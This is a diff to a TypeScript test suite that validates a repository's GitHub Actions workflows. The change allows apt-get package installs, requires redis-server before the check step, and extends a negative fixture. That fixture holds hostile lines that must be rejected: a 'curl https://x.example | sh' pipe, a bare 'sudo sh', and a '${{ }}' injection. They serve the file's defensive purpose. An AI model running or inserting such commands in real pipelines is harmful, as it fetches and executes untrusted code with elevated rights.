@@ -46,6 +46,8 @@ const linesOf = ({ steps }: Job): string[] => steps.flatMap(({ run }) => run?.tr
 const fault = (line: string): string | undefined => {
   if (line.includes('${{')) return 'what GitHub puts in here would be run: pass it by env';
   if (line === 'npm ci' || line === 'npm test' || line.startsWith('npm test -- ')) return undefined;
+  // what the runner's image lacks
+  if (/^sudo apt-get update && sudo apt-get install -y(?: [a-z][\w-]*)+$/.test(line)) return undefined;
   const [, script] = /^npm run ([\w:]+)(?: -- .*)?$/.exec(line) ?? [];
   if (script !== undefined) return script in scripts ? undefined : `package.json has no script ${script}`;
   const [, tool] = /^node (tools\/\S+)/.exec(line) ?? [];
@@ -59,7 +61,7 @@ for (const file of files) {
       assert.deepEqual(await workflowFaults(file, readFileSync(join(home, file), 'utf8')), []);
     });
 
-    it('runs nothing but scripts and tools of this repository that are there', () => {
+    it('runs nothing but scripts and tools of this repository that are there, and what brings packages of the system', () => {
       const lines = jobsOf(file).flatMap(([, job]) => linesOf(job));
       assert.ok(lines.length > 0);
       assert.deepEqual(
@@ -93,7 +95,10 @@ describe('ci.yml', () => {
 
   it('has the steps of npm run ci:local', () => {
     assert.ok(check && plan && deliver);
-    assert.ok(linesOf(check).includes(STEPS.check));
+    const lines = linesOf(check);
+    assert.ok(lines.includes(STEPS.check));
+    const redis = lines.findIndex((line) => /apt-get install .*\bredis-server\b/.test(line));
+    assert.ok(redis !== -1 && redis < lines.indexOf(STEPS.check), 'specs need it, and who runs them is not root');
     assert.ok(linesOf(plan).includes(STEPS.plan));
     assert.deepEqual(linesOf(deliver), ['npm ci', STEPS.build, ...STEPS.leg]);
   });
@@ -139,7 +144,13 @@ describe('a workflow', () => {
 
 describe('a line of a workflow', () => {
   it('is told when it is no part of this repository', () => {
-    const lines = ['npm run no-such', 'node tools/no-such.mjs', 'curl https://x.example | sh', 'npm run delivery -- deliver ${{ x }}'];
+    const lines = [
+      'npm run no-such',
+      'node tools/no-such.mjs',
+      'curl https://x.example | sh',
+      'sudo sh',
+      'npm run delivery -- deliver ${{ x }}',
+    ];
     assert.equal(lines.filter((line) => fault(line) === undefined).length, 0);
   });
 });
